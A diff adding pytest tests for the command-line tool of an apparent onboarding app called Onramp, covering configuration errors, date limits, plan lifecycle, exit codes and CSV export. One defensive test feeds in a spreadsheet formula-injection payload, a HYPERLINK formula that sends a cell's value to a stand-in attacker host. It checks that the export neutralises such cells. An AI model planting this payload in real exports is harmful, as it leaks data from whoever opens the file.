@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -15,6 +17,8 @@ import time_machine
 from typer.testing import CliRunner
 
 from bot.cli import load
+from bot.cli.csvout import safe_cell
+from tests.support import travel
 
 ROOT = Path(__file__).resolve().parents[1]
 CONFIG = str(ROOT / "app.yaml")
@@ -337,3 +341,255 @@ def test_people_set_mistakes(
     exit_code, _, err = run(database_url, *args)
     assert (exit_code, "Traceback" in err) == (code, False)
     assert message in err
+
+
+def run_main(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    """Run the installed `onramp` console script (the real entry point) in a fresh process."""
+    script = Path(sys.executable).parent / "onramp"
+    command, environment = travel.child_command(
+        [str(script), *args], {"PATH": str(script.parent), **(env or {})}
+    )
+    return subprocess.run(
+        command, capture_output=True, text=True, timeout=60, check=False, cwd=ROOT, env=environment
+    )
+
+
+@pytest.mark.parametrize(
+    ("url", "message"),
+    [
+        ("garbage", "the database URL is not a URL; write it like sqlite:///onramp.db"),
+        ("mysql://x:s3cret@localhost/db", "names 'mysql', which Onramp does not support"),
+        ("postgresql+psycopg2://u@h/db", "names 'postgresql+psycopg2'"),
+    ],
+)
+def test_a_database_url_onramp_cannot_use_is_a_configuration_error(url: str, message: str) -> None:
+    """A malformed or unsupported DATABASE_URL exits 2 with the forms to use, and no password."""
+    result = run_main("progress", "UX", "--config", CONFIG, env={"DATABASE_URL": url})
+    assert result.returncode == 2, result.stderr
+    assert message in result.stderr
+    assert "Traceback" not in result.stderr
+    assert "s3cret" not in result.stderr
+
+
+@pytest.mark.parametrize("args", [("progress", "UX"), ("tick", "--dry-run")])
+def test_a_corrupt_sqlite_file_is_named_not_traced(tmp_path: Path, args: tuple[str, ...]) -> None:
+    """A file that is not an SQLite database gives exit 2 and what to do (restore or repoint)."""
+    corrupt = tmp_path / "c.db"
+    corrupt.write_bytes(bytes(range(256)) * 20)
+    result = run_main(*args, "--config", CONFIG, env={"DATABASE_URL": f"sqlite:///{corrupt}"})
+    assert result.returncode == 2
+    assert "is not a readable SQLite database" in result.stderr
+    assert "restore it from a backup" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+def test_a_read_only_database_reads_and_refuses_writes_naming_permissions(tmp_path: Path) -> None:
+    """On a database this user may only read, `progress` works and `mark` exits 2 saying the
+    file is read-only (not "is the server running?")."""
+    path = tmp_path / "ro.db"
+    assert run(f"sqlite:///{path}", *ENROLL)[0] == 0
+    read_only = f"sqlite:///file:{path}?mode=ro&uri=true"
+    assert run(read_only, "progress", "UHIRE")[0] == 0
+    code, _, err = run(read_only, "mark", "UHIRE", "d30-dev-environment", "done")
+    assert code == 2
+    assert "the database is read-only for this user" in err
+    assert "server is running" not in err
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (("--start", "9999-12-31"), "The start date 9999-12-31 is more than a year from today"),
+        (("--start", "1900-01-01"), "The start date 1900-01-01 is more than five years before"),
+        (("--start", "2027-11-12"), "more than a year from today (2026-11-10)"),
+    ],
+)
+def test_start_dates_far_from_today_are_refused(
+    database_url: str, args: tuple[str, ...], message: str
+) -> None:
+    """A start date beyond a year ahead or five years back exits 2 with the window, no trace."""
+    base = ("enroll", "UX", "--plan", "junior-llm-engineer", "--manager", "UM")
+    code, _, err = run(database_url, *base, *args)
+    assert (code, "Traceback" in err) == (2, False)
+    assert message in err
+
+
+def test_an_operator_may_backfill_a_plan_begun_years_ago(database_url: str) -> None:
+    """`onramp enroll` accepts a start four years back (the operator's backfill window)."""
+    base = ("enroll", "UX", "--plan", "junior-llm-engineer", "--manager", "UM")
+    code, out, err = run(database_url, *base, "--start", "2022-11-14")
+    assert code == 0, err
+    assert "from 2022-11-14" in out
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (("tick", "--now", "9999-12-31T23:59:59Z", "--dry-run"), "--now 9999-12-31"),
+        (("tick", "--now", "0001-01-01T00:00:00Z", "--dry-run"), "--now 0001-01-01"),
+        (("progress", "UHIRE", "--as-of", "9999-01-01"), "--as-of 9999-01-01"),
+    ],
+)
+def test_instants_outside_the_years_onramp_schedules_in_are_refused(
+    database_url: str, args: tuple[str, ...], message: str
+) -> None:
+    """--now and --as-of far outside 2000–2199 exit 2 naming the range, instead of overflowing."""
+    run(database_url, *ENROLL)
+    code, _, err = run(database_url, *args)
+    assert (code, "Traceback" in err) == (2, False)
+    assert message in err
+    assert "outside the years Onramp schedules in (2000–2199)" in err
+
+
+def test_the_manager_cannot_also_be_the_mentor(database_url: str) -> None:
+    """`--manager M --mentor M` is refused (exit 2), and nothing is enrolled."""
+    code, _, err = run(database_url, *ENROLL, "--mentor", "UBOSS")
+    assert code == 2
+    assert "UBOSS is the manager of record, so they can't also be the mentor" in err
+    assert run(database_url, "progress", "UHIRE")[0] == 1
+
+
+def test_a_mentor_named_twice_is_one_mentor(database_url: str) -> None:
+    """`--mentor M --mentor M` enrolls M once."""
+    run(database_url, *ENROLL, "--mentor", "UM1", "--mentor", "UM1")
+    out = run(database_url, "progress", "UHIRE", "--json")[1]
+    assert json.loads(out)["mentors"] == ["UM1"]
+
+
+@pytest.mark.parametrize(
+    "note",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+1 for the VPN",
+        "-2+3",
+        "@SUM(A1:A2)",
+    ],
+)
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(database_url: str, note: str) -> None:
+    """A note starting with = + - @ tab or CR is exported to CSV with a leading apostrophe; the
+    JSON export keeps it exact."""
+    run(database_url, *ENROLL)
+    run(database_url, "mark", "UHIRE", "d30-dev-environment", "done", "--note", note)
+    code, out, _ = run(database_url, "export")
+    assert code == 0
+    rows = [r for r in csv.DictReader(io.StringIO(out)) if r["milestone"] == "d30-dev-environment"]
+    assert rows[0]["note"] == "'" + note.strip()
+    code, out, _ = run(database_url, "export", "--format", "json")
+    exported = [r for r in json.loads(out) if r["milestone"] == "d30-dev-environment"]
+    assert exported[0]["note"] == note.strip()
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"), ("plain", "plain"), (-3, -3), ("", "")],
+)
+def test_the_csv_writer_makes_formula_starts_inert_and_leaves_the_rest(
+    value: object, written: object
+) -> None:
+    """safe_cell prefixes text starting with a tab or CR too; numbers and plain text pass."""
+    assert safe_cell(value) == written
+
+
+def test_lifecycle_commands_pause_resume_complete(database_url: str) -> None:
+    """`onramp pause`, `resume` and `complete` change the plan's status and say so; a pause of
+    a paused plan exits 1 with the reason."""
+    run(database_url, *ENROLL)
+    assert run(database_url, "pause", "UHIRE")[1] == (
+        "UHIRE: plan paused; check-ins stop until `onramp resume UHIRE`.\n"
+    )
+    code, _, err = run(database_url, "pause", "UHIRE")
+    assert (code, "only an active plan can be paused" in err) == (1, True)
+    assert run(database_url, "resume", "UHIRE")[0] == 0
+    code, out, _ = run(database_url, "complete", "UHIRE", "--json")
+    assert (code, json.loads(out)["status"]) == (0, "completed")
+
+
+def test_withdraw_asks_first_and_no_changes_nothing(database_url: str) -> None:
+    """`onramp withdraw` asks for confirmation: "n" leaves the plan active (exit 1), "y" and
+    --yes withdraw it."""
+    run(database_url, *ENROLL)
+    result = CliRunner().invoke(
+        load(),
+        ["withdraw", "UHIRE", "--config", CONFIG],
+        env={"DATABASE_URL": database_url},
+        input="n\n",
+    )
+    assert result.exit_code == 1
+    assert "nothing changed" in result.stderr
+    assert json.loads(run(database_url, "progress", "UHIRE", "--json")[1])["status"] == "active"
+    code, out, _ = run(database_url, "withdraw", "UHIRE", "--yes")
+    assert (code, out) == (
+        0,
+        "UHIRE: withdrawn from the plan; it stays on record (enroll them again anytime).\n",
+    )
+
+
+def test_an_unexpected_failure_is_one_sentence_with_exit_3(tmp_path: Path) -> None:
+    """A failure nobody anticipated (here: the plans folder is a file) ends in one sentence,
+    exit 3, and how to get the details, with no traceback unless ONRAMP_DEBUG is set."""
+    config = tmp_path / "app.yaml"
+    config.write_text("plans_dir: plans\n", encoding="utf-8")
+    plans = tmp_path / "plans"
+    plans.mkdir()
+    (plans / "broken").mkdir()
+    (plans / "broken" / "plan.yaml").mkdir()  # a folder where a file is read
+    result = run_main("plans", "list", "--config", str(config))
+    assert result.returncode == 3, result.stderr
+    assert "Onramp failed unexpectedly (IsADirectoryError" in result.stderr
+    assert "ONRAMP_DEBUG=1" in result.stderr
+    assert "Traceback" not in result.stderr
+    debug = run_main("plans", "list", "--config", str(config), env={"ONRAMP_DEBUG": "1"})
+    assert "Traceback" in debug.stderr
+
+
+def test_output_cut_short_by_the_reader_is_not_an_error(database_url: str) -> None:
+    """`onramp export | head -1`: the closed pipe ends the command quietly with exit 0."""
+    run(database_url, *ENROLL)
+    script = Path(sys.executable).parent / "onramp"
+    command, env = travel.child_command(
+        [str(script), "export", "--config", CONFIG],
+        {"PATH": "/usr/bin:/bin", "DATABASE_URL": database_url},
+    )
+    pipeline = subprocess.run(  # noqa: S602 - a fixed pipeline of our own arguments
+        " ".join(f"'{part}'" for part in command) + " | head -c 10 >/dev/null; "
+        'echo "${PIPESTATUS[0]}"',
+        shell=True,
+        executable="/bin/bash",
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+        cwd=ROOT,
+        env=env,
+    )
+    assert pipeline.stdout.strip() == "0", pipeline.stderr
+    assert "Traceback" not in pipeline.stderr
+    assert "unexpectedly" not in pipeline.stderr
+
+
+@pytest.mark.parametrize(
+    ("args", "code"),
+    [
+        (("mark", "UHIRE", "d30-product-surfac", "done"), 1),
+        (("mark", "UNOBODY", "d30-dev-environment", "done"), 1),
+        (("enroll", "UX", "--plan", "nope", "--start", "2026-11-09", "--manager", "UB"), 1),
+        (ENROLL, 1),
+        (("mark", "UHIRE", "d30-dev-environment", "finished"), 2),
+        (
+            ("enroll", "UX", "--plan", "junior-llm-engineer", "--start", "9/11", "--manager", "UB"),
+            2,
+        ),
+        (("progress", "UHIRE", "--as-of", "1999-12-31"), 2),
+        (("export", "--format", "xml"), 2),
+    ],
+)
+def test_the_readme_exit_code_table_is_true(
+    database_url: str, args: tuple[str, ...], code: int
+) -> None:
+    """Each example of the README's exit-code table exits with the code the table gives it."""
+    run(database_url, *ENROLL)
+    exit_code, _, err = run(database_url, *args)
+    assert exit_code == code, err
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    assert "| 1 | well-formed, but the answer is no" in readme
+    assert "| 2 | fix the command, a file or a setting" in readme
